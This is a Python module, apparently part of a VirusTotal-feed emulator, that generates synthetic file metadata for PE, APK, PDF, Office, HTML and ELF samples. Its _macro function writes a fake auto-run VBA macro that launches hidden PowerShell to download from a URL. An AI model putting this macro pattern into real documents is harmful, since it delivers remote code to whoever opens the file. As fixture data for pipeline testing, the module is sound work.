"""The kinds of file in the files feed and the type-specific section each one gets.

PE files get pe_info and signature_info, APKs androguard, PDFs pdf_info, Office documents
openxml_info or office_info, HTML html_info, ELF elf_info, ZIPs bundle_info: the sections whose
URLs, names and hashes the summaries read. `FILE_TYPES` weighs them as the feed mixes them.
"""

from __future__ import annotations

import random
from typing import Callable, NamedTuple

from vt_dagster.emulator.values import (
    DAY,
    FAMILIES_ANDROID,
    FAMILIES_DOC,
    FAMILIES_LINUX,
    FAMILIES_WEB,
    FAMILIES_WIN,
    NOISE_URLS,
    SYLLABLES,
    Obj,
    chance,
    plain_url,
    random_hex,
    random_url,
    random_urls,
    sample,
    utc_date,
)


DIGICERT_G4 = ("DigiCert Trusted G4 Code Signing RSA4096 SHA384 2021 CA1", "DigiCert Trusted Root G4")
SIGNERS = (  # signer, intermediate CA, root CA
    ("Microsoft Corporation", "Microsoft Code Signing PCA 2011", "Microsoft Root Certificate Authority 2011"),
    ("Google LLC",) + DIGICERT_G4,
    ("Zoom Video Communications, Inc.",) + DIGICERT_G4,
    ("ООО \"Софт Плюс\"", "Sectigo Public Code Signing CA R36", "Sectigo Public Code Signing Root R46"),
    ("Shenzhen Yunzhi Network Technology Co., Ltd.", "GlobalSign GCC R45 EV CodeSigning CA 2020",
     "GlobalSign Code Signing Root R45"),
    ("AVG Technologies USA, LLC", "DigiCert SHA2 Assured ID Code Signing CA", "DigiCert Assured ID Root CA"),
)


def _signature_info(rng: random.Random, name: str, ts: int) -> Obj:
    info: Obj = {"description": rng.choice((" ", f"{name.split('.')[0]} Setup", "Installer")),
                 "file version": f"{rng.randint(1, 12)}.{rng.randint(0, 9)}.{rng.randint(0, 999)}.0",
                 "original name": name, "internal name": name.split(".")[0],
                 "copyright": rng.choice((" ", "Copyright (C) 2024", "© Все права защищены"))}
    if not chance(rng, 0.5):
        return info
    signer, intermediate, root = rng.choice(SIGNERS)
    valid = ts - rng.randint(30, 700) * DAY
    info.update({
        "product": rng.choice(("Setup", "Update Service", name.split(".")[0])),
        "verified": rng.choice(("Signed", "Signed", "A certificate was explicitly revoked by its issuer.")),
        "signing date": utc_date(valid + rng.randint(1, 300) * DAY, "%I:%M %p %m/%d/%Y"),
        "signers": f"{signer}; {intermediate}; {root}",
        "signers details": [
            {"name": subject, "status": "Valid", "valid usage": "Code Signing",
             "algorithm": "sha256RSA", "valid from": utc_date(valid, "%I:%M %p %m/%d/%Y"),
             "valid to": utc_date(valid + 3 * 365 * DAY, "%I:%M %p %m/%d/%Y"),
             "serial number": random_hex(rng, 32).upper(), "cert issuer": issuer,
             "thumbprint": random_hex(rng, 40).upper()}
            for subject, issuer in ((signer, intermediate), (intermediate, root), (root, root))
        ],
        "x509": [{"name": signer, "algorithm": "sha256RSA", "valid from": utc_date(valid, "%I:%M %p %m/%d/%Y"),
                  "valid to": utc_date(valid + 3 * 365 * DAY, "%I:%M %p %m/%d/%Y"),
                  "serial number": random_hex(rng, 32).upper(), "cert issuer": intermediate,
                  "thumbprint": random_hex(rng, 40).upper(), "valid usage": "Code Signing"}],
    })
    return info


DLL_IMPORTS = {
    "KERNEL32.dll": ("GetProcAddress", "LoadLibraryA", "VirtualAlloc", "VirtualProtect", "CreateFileW",
                     "WriteFile", "ReadFile", "CloseHandle", "GetModuleHandleW", "Sleep", "CreateThread",
                     "GetTickCount", "ExitProcess", "GetCommandLineW", "GetLastError", "HeapAlloc",
                     "HeapFree", "GetStartupInfoW", "TerminateProcess", "IsDebuggerPresent",
                     "QueryPerformanceCounter", "GetCurrentProcessId", "WaitForSingleObject",
                     "CreateProcessW", "GetTempPathW", "DeleteFileW", "FindFirstFileW", "FindNextFileW"),
    "USER32.dll": ("MessageBoxW", "GetWindowTextW", "FindWindowW", "ShowWindow", "SetWindowsHookExW",
                   "GetAsyncKeyState", "GetForegroundWindow", "DispatchMessageW", "PeekMessageW"),
    "ADVAPI32.dll": ("RegOpenKeyExW", "RegSetValueExW", "RegCloseKey", "OpenProcessToken",
                     "AdjustTokenPrivileges", "CryptAcquireContextW", "CryptEncrypt", "GetUserNameW"),
    "WS2_32.dll": ("WSAStartup", "socket", "connect", "send", "recv", "gethostbyname", "closesocket"),
    "WININET.dll": ("InternetOpenW", "InternetOpenUrlW", "InternetReadFile", "HttpSendRequestW",
                    "InternetCloseHandle"),
    "SHELL32.dll": ("ShellExecuteW", "SHGetFolderPathW", "CommandLineToArgvW"),
    "ole32.dll": ("CoInitialize", "CoCreateInstance", "CoUninitialize"),
    "mscoree.dll": ("_CorExeMain",),
    "msvcrt.dll": ("malloc", "free", "memcpy", "memset", "strlen", "_wcsicmp", "sprintf"),
    "GDI32.dll": ("CreateCompatibleDC", "BitBlt", "SelectObject", "DeleteObject"),
    "CRYPT32.dll": ("CryptUnprotectData", "CertOpenStore", "CertFindCertificateInStore",
                    "CryptStringToBinaryA", "CertGetNameStringW", "CertCloseStore"),
    "ntdll.dll": ("NtQueryInformationProcess", "RtlGetVersion", "NtAllocateVirtualMemory",
                  "NtWriteVirtualMemory", "NtUnmapViewOfSection", "RtlMoveMemory", "NtResumeThread"),
    "OLEAUT32.dll": ("SysAllocString", "SysFreeString", "VariantInit", "VariantClear",
                     "SafeArrayCreate", "SafeArrayAccessData", "SysStringLen"),
    "SHLWAPI.dll": ("PathFileExistsW", "PathCombineW", "StrStrIW", "PathFindFileNameW",
                    "SHDeleteKeyW", "PathRemoveFileSpecW", "StrCmpNIW"),
    "IPHLPAPI.DLL": ("GetAdaptersInfo", "GetAdaptersAddresses", "GetIpNetTable"),
    "bcrypt.dll": ("BCryptOpenAlgorithmProvider", "BCryptGenerateSymmetricKey", "BCryptDecrypt",
                   "BCryptEncrypt", "BCryptDestroyKey", "BCryptCloseAlgorithmProvider"),
    "urlmon.dll": ("URLDownloadToFileW", "ObtainUserAgentString"),
    "COMCTL32.dll": ("InitCommonControlsEx", "ImageList_Create", "ImageList_AddMasked",
                     "PropertySheetW", "CreatePropertySheetPageW"),
    "api-ms-win-crt-runtime-l1-1-0.dll": ("_initterm", "_initterm_e", "_exit", "exit", "_cexit",
                                          "_get_initial_wide_environment", "_register_onexit_function",
                                          "_crt_atexit", "_seh_filter_exe", "_set_app_type",
                                          "_configure_wide_argv", "_initialize_wide_environment"),
    "VCRUNTIME140.dll": ("__std_type_info_destroy_list", "_CxxThrowException", "__CxxFrameHandler3",
                         "memmove", "__current_exception", "__current_exception_context",
                         "__C_specific_handler", "__std_exception_copy", "__std_exception_destroy"),
}
SECTION_NAMES = (".text", ".rdata", ".data", ".rsrc", ".reloc", ".pdata", "UPX0", "UPX1", ".tls", ".idata")
RESOURCE_TYPES = ("RT_ICON", "RT_GROUP_ICON", "RT_VERSION", "RT_MANIFEST", "RT_RCDATA")


def _pe_info(rng: random.Random, ts: int, dotnet: bool) -> Obj:
    if dotnet:
        imports = [{"library_name": "mscoree.dll", "imported_functions": ["_CorExeMain"]}]
    else:
        imports = [{"library_name": library, "imported_functions": sample(rng, functions, 1, len(functions))}
                   for library, functions in DLL_IMPORTS.items()
                   if library != "mscoree.dll" and chance(rng, 0.45)]
    address = 4096
    sections = []
    for name in sample(rng, SECTION_NAMES, 3, 6):
        raw = rng.randint(1, 400) * 512
        sections.append({"name": name, "chi2": round(rng.uniform(100, 900000), 2),
                         "virtual_address": address, "flags": rng.choice(("rx", "r", "rw", "rwx")),
                         "raw_size": raw, "entropy": round(rng.uniform(0.5, 7.99), 2),
                         "virtual_size": raw - rng.randint(0, 511), "md5": random_hex(rng, 32)})
        address += ((raw + 4095) // 4096) * 4096
    info: Obj = {"timestamp": ts - rng.randint(0, 3000) * DAY, "imphash": random_hex(rng, 32),
                 "machine_type": rng.choice((332, 34404)), "entry_point": rng.randint(4096, 200000),
                 "sections": sections, "import_list": imports}
    if chance(rng, 0.8):
        info["resource_details"] = [
            {"lang": rng.choice(("NEUTRAL", "ENGLISH US", "RUSSIAN", "CHINESE SIMPLIFIED")),
             "entropy": round(rng.uniform(1, 8), 3), "chi2": round(rng.uniform(100, 90000), 2),
             "filetype": rng.choice(("Data", "PNG", "XML 1.0")), "sha256": random_hex(rng, 64), "type": resource}
            for resource in sample(rng, RESOURCE_TYPES, 1, 5)
        ]
        info["resource_types"] = {item["type"]: 1 for item in info["resource_details"]}
        info["resource_langs"] = {info["resource_details"][0]["lang"]: len(info["resource_details"])}
    if chance(rng, 0.5):
        info["rich_pe_header_hash"] = random_hex(rng, 32)
        info["compiler_product_versions"] = [
            f"[C++] VS2022 v17.{rng.randint(0, 9)} build {rng.randint(30000, 33000)} count={rng.randint(1, 200)}"
            for _ in range(rng.randint(1, 5))
        ]
    if chance(rng, 0.2):
        info["overlay"] = {"entropy": round(rng.uniform(5, 8), 3), "offset": address,
                           "chi2": round(rng.uniform(100, 9e5), 2), "filetype": "Data",
                           "md5": random_hex(rng, 32), "size": rng.randint(100, 900000)}
    return info


def _pe_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    dotnet = chance(rng, 0.3)
    obj["pe_info"] = _pe_info(rng, ts, dotnet)
    obj["authentihash"] = random_hex(rng, 64)
    obj["creation_date"] = obj["pe_info"]["timestamp"]
    obj["signature_info"] = _signature_info(rng, name, ts)
    compiler = "VB.NET" if dotnet else "Microsoft Visual C/C++"
    obj["detectiteasy"] = {"filetype": "PE32", "values": [
        {"type": "Compiler", "name": compiler, "version": f"{rng.randint(16, 19)}.{rng.randint(0, 40)}"},
        {"type": "Linker", "name": "Microsoft Linker", "version": f"14.{rng.randint(0, 40)}"}]}
    if dotnet:
        obj["dot_net_assembly"] = {"assembly_name": name, "clr_version": "v4.0.30319",
                                   "tables_present": rng.randint(8, 20),
                                   "manifest_resource": [f"{random_hex(rng, 10)}.Resources"]}
    if chance(rng, 0.12):
        obj["packers"] = {"PEiD": rng.choice(("UPX -> www.upx.sourceforge.net", "Microsoft Visual C++ vx.x DLL")),
                          "F-PROT": rng.choice(("UPX", "Themida"))}
    obj["exiftool"] = {"MIMEType": "application/octet-stream", "FileType": "Win32 EXE",
                       "PEType": "PE32", "MachineType": "Intel 386 or later, and compatibles",
                       "LinkerVersion": f"{rng.randint(6, 14)}.{rng.randint(0, 40)}", "OriginalFileName": name,
                       "InternalName": name.split(".")[0], "FileVersion": obj["signature_info"]["file version"],
                       "CodeSize": str(rng.randint(1000, 900000)), "Subsystem": "Windows GUI",
                       "TimeStamp": utc_date(obj["pe_info"]["timestamp"], "%Y:%m:%d %H:%M:%S+00:00")}


ANDROID_PERMISSIONS = ("android.permission.INTERNET", "android.permission.READ_SMS",
                       "android.permission.RECEIVE_SMS", "android.permission.SEND_SMS",
                       "android.permission.READ_CONTACTS", "android.permission.ACCESS_FINE_LOCATION",
                       "android.permission.CAMERA", "android.permission.RECORD_AUDIO",
                       "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.permission.SYSTEM_ALERT_WINDOW",
                       "android.permission.REQUEST_INSTALL_PACKAGES", "android.permission.READ_PHONE_STATE",
                       "android.permission.WAKE_LOCK", "android.permission.FOREGROUND_SERVICE")


APK_ACTIVITIES = ("Main", "Login", "Settings", "Web", "Splash", "Pay")
APK_STRINGS = ("VirtualApp", "su", "/system/bin/sh", "Landroid/telephony/SmsManager;", "%s://%s")


def _components(rng: random.Random, package: str, kind: str, names: tuple[str, ...], low: int,
                high: int) -> list[str]:
    return [f"{package}.{name}{kind}" for name in sample(rng, names, low, high)]


def _permission_details(rng: random.Random, permissions: list[str]) -> Obj:
    details: Obj = {}
    for permission in permissions:
        words = permission.rsplit(".", 1)[-1].lower().replace("_", " ")
        details[permission] = {"permission_type": rng.choice(("dangerous", "normal", "signature")),
                               "short_description": words, "full_description": f"Allows the app to {words}."}
    return details


def _apk_certificate(rng: random.Random, package: str, ts: int) -> Obj:
    return {"Subject": {"CN": rng.choice(("Android Debug", "Unknown", package)), "O": "Android", "C": "US"},
            "validfrom": utc_date(ts - rng.randint(30, 3000) * DAY), "validto": utc_date(ts + 9000 * DAY),
            "serialnumber": random_hex(rng, 16), "thumbprint": random_hex(rng, 40),
            "Issuer": {"CN": "Android Debug", "O": "Android", "C": "US"}}


def _apk_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    """androguard: its StringsInformation is where APKs' URLs show up."""
    suffix = ("app", "mobile", "android", "wallet", "update")
    package = f"com.{rng.choice(SYLLABLES)}{rng.choice(SYLLABLES)}.{rng.choice(suffix)}"
    permissions = sample(rng, ANDROID_PERMISSIONS, 2, 10)
    obj["androguard"] = {
        "Package": package, "AndroidApplication": 1, "AndroidApplicationError": False,
        "AndroidApplicationInfo": "APK", "AndroidVersionCode": str(rng.randint(1, 500)),
        "AndroidVersionName": f"{rng.randint(1, 9)}.{rng.randint(0, 9)}.{rng.randint(0, 20)}",
        "MinSdkVersion": str(rng.randint(16, 26)), "TargetSdkVersion": str(rng.randint(28, 34)),
        "Main Activity": f"{package}.MainActivity",
        "Activities": _components(rng, package, "Activity", APK_ACTIVITIES, 1, 4),
        "Services": _components(rng, package, "Service", ("Sync", "Accessibility", "Push", "Overlay"), 0, 3),
        "Receivers": _components(rng, package, "Receiver", ("Boot", "Sms", "Alarm"), 0, 2),
        "Providers": [],
        "Libraries": sample(rng, ("org.apache.http.legacy", "androidx.window.extensions"), 0, 1),
        "StringsInformation": random_urls(rng, 0, 12) + sample(rng, APK_STRINGS, 0, 3),
        "permission_details": _permission_details(rng, permissions),
        "certificate": _apk_certificate(rng, package, ts),
        "VTAndroidInfo": 1.41,
    }


def _pdf_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    obj["pdf_info"] = {"header": f"%PDF-1.{rng.randint(3, 7)}", "num_pages": rng.randint(1, 40),
                       "num_obj": rng.randint(5, 900), "num_endobj": rng.randint(5, 900),
                       "num_stream": rng.randint(1, 300), "num_endstream": rng.randint(1, 300),
                       "js": rng.choice((0, 0, 1)), "javascript": rng.choice((0, 0, 1)),
                       "openaction": rng.choice((0, 1)), "acroform": rng.choice((0, 1)),
                       "autoaction": 0, "embedded_file": 0, "encrypted": 0, "flash": 0, "jbig2": 0,
                       "xfa": 0, "launch_action": 0, "suspicious_colors": 0, "trailer": 1, "xref": 1,
                       "startxref": 1, "num_launch_actions": 0, "num_object_streams": rng.randint(0, 9)}
    producer = rng.choice(("Microsoft® Word for Microsoft 365", "Skia/PDF m120", "iText 2.1.7"))
    obj["exiftool"] = {"MIMEType": "application/pdf", "FileType": "PDF",
                       "PDFVersion": obj["pdf_info"]["header"][5:], "Producer": producer,
                       "PageCount": str(obj["pdf_info"]["num_pages"]), "Linearized": "No"}


def _office_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    pages = str(rng.randint(1, 9))
    creator = rng.choice(("Admin", "user", "Пользователь", "Windows User"))
    created = utc_date(ts - rng.randint(1, 90) * DAY, "%Y-%m-%dT%H:%M:%SZ")
    obj["openxml_info"] = {
        "docprops_app": {"Application": "Microsoft Office Word", "AppVersion": "16.0000", "Pages": pages},
        "docprops_core": {"dc:creator": creator, "cp:lastModifiedBy": "Admin", "dcterms:created": created},
        "type_urls": sample(rng, NOISE_URLS[9:16], 1, 4),
        "rels": {ATTACHED_TEMPLATE: random_url(rng)} if chance(rng, 0.3) else {},
        "file_type": "docx", "content_types": {"application/xml": 1, "image/png": rng.randint(0, 3)},
    }


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def _macro(rng: random.Random) -> Obj:
    code = f"Sub AutoOpen()\n Shell \"powershell -w hidden -c iwr {plain_url(rng)}\"\nEnd Sub"
    return {"vba_code": code, "length": rng.randint(300, 9000), "patterns": ["shell", "autoopen"],
            "subfilename": "ThisWorkbook"}


def _ole_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    author = rng.choice(("Admin", "user", "Windows User"))
    code_page = "Cyrillic" if chance(rng, 0.2) else "Latin I"
    obj["office_info"] = {
        "summary_info": {"author": author, "code_page": code_page,
                         "creation_datetime": utc_date(ts - rng.randint(1, 900) * DAY),
                         "application_name": "Microsoft Excel"},
        "macros": [_macro(rng)] if chance(rng, 0.6) else [],
    }


def _html_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    obj["html_info"] = {"title": rng.choice(("Sign in to your account", "Invoice", "Document Shared", "Вход", "")),
                        "iframes": [{"attributes": [random_url(rng)]} for _ in range(rng.randint(0, 2))],
                        "scripts": [{"attributes": [random_url(rng)]} for _ in range(rng.randint(0, 4))]}


ELF_LIBS = ("libc.so.6", "libpthread.so.0", "libdl.so.2", "libm.so.6")
ELF_SECTIONS = (".init", ".text", ".fini", ".rodata", ".data", ".bss", ".ctors")
ELF_MACHINES = ("ARM", "MIPS R3000", "Advanced Micro Devices X86-64", "Intel 80386")


def _elf_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    header = {"class": "ELF32", "data": "2's complement, little endian", "type": "EXEC (Executable file)",
              "machine": rng.choice(ELF_MACHINES), "entrypoint": rng.randint(32768, 900000),
              "os_abi": "UNIX - System V", "num_section_headers": rng.randint(0, 30)}
    sections = [{"name": section, "section_type": "PROGBITS", "virtual_address": rng.randint(32768, 900000),
                 "physical_offset": rng.randint(0, 90000), "size": rng.randint(16, 90000), "flags": "AX"}
                for section in sample(rng, ELF_SECTIONS, 0, 7)]
    obj["elf_info"] = {"header": header, "section_list": sections,
                       "shared_libraries": sample(rng, ELF_LIBS, 0, 3)}


def _zip_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    children = rng.randint(1, 40)
    obj["bundle_info"] = {
        "type": "ZIP", "num_children": children, "uncompressed_size": rng.randint(1000, 9_000_000),
        "extensions": {"exe": rng.randint(0, 3), "dll": rng.randint(0, 5), "js": rng.randint(0, 2)},
        "file_types": {"peexe": rng.randint(0, 3), "unknown": rng.randint(0, 5)},
        "lowest_datetime": utc_date(ts - 90 * DAY), "highest_datetime": utc_date(ts - DAY),
    }


def _no_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    return None


Extras = Callable[[random.Random, Obj, str, int], None]


class FileType(NamedTuple):
    """One kind of file in the feed: how VT labels it and which type-specific section it gets."""

    weight: int
    tag: str
    description: str
    extension: str
    magic: str
    trid: str
    platform: str  # as AV engines spell it in detection names
    families: tuple[str, ...]
    extras: Extras


FILE_TYPES = (
    FileType(34, "peexe", "Win32 EXE", "exe", "PE32 executable for MS Windows (GUI) Intel 80386 32-bit",
             "Win32 Executable (generic)", "Win32", FAMILIES_WIN, _pe_extras),
    FileType(10, "pedll", "Win32 DLL", "dll", "PE32+ executable for MS Windows (DLL) (GUI) Mono/.Net assembly",
             "Win64 Executable (generic)", "Win64", FAMILIES_WIN, _pe_extras),
    FileType(12, "apk", "Android", "apk", "Zip archive data, at least v2.0 to extract",
             "Android Package", "AndroidOS", FAMILIES_ANDROID, _apk_extras),
    FileType(6, "pdf", "PDF", "pdf", "PDF document, version 1.7",
             "Adobe Portable Document Format", "PDF", FAMILIES_DOC, _pdf_extras),
    FileType(5, "docx", "Office Open XML Document", "docx", "Microsoft Word 2007+",
             "Word Microsoft Office Open XML Format document", "MSOffice", FAMILIES_DOC, _office_extras),
    FileType(4, "xls", "MS Excel Spreadsheet", "xls", "CDF V2 Document, Little Endian, Os: Windows, Version 10.0",
             "Microsoft Excel sheet", "MSExcel", FAMILIES_DOC, _ole_extras),
    FileType(8, "html", "HTML", "html", "HTML document, UTF-8 Unicode text, with very long lines",
             "HyperText Markup Language", "HTML", FAMILIES_WEB, _html_extras),
    FileType(4, "javascript", "JavaScript", "js", "ASCII text, with very long lines",
             "JavaScript source", "JS", FAMILIES_WEB, _no_extras),
    FileType(6, "elf", "ELF", "elf",
             "ELF 32-bit LSB executable, ARM, EABI5 version 1 (SYSV), statically linked, stripped",
             "ELF Executable and Linkable format (Linux)", "Linux", FAMILIES_LINUX, _elf_extras),
    FileType(5, "zip", "ZIP", "zip", "Zip archive data, at least v2.0 to extract",
             "ZIP compressed archive", "Archive", FAMILIES_WIN, _zip_extras),
    FileType(3, "powershell", "Powershell", "ps1", "ASCII text, with CRLF line terminators",
             "Text - UTF-8 encoded", "PowerShell", FAMILIES_WIN, _no_extras),
    FileType(1, "lnk", "Windows shortcut", "lnk", "MS Windows shortcut, Item id list present, Has Relative path",
             "Windows Shortcut", "LNK", FAMILIES_WIN, _no_extras),
    FileType(2, "msi", "Windows Installer", "msi", "Composite Document File V2 Document, MSI Installer",
             "Microsoft Windows Installer", "Win32", FAMILIES_WIN, _no_extras),
)
FILE_TYPE_WEIGHTS = tuple(file_type.weight for file_type in FILE_TYPES)
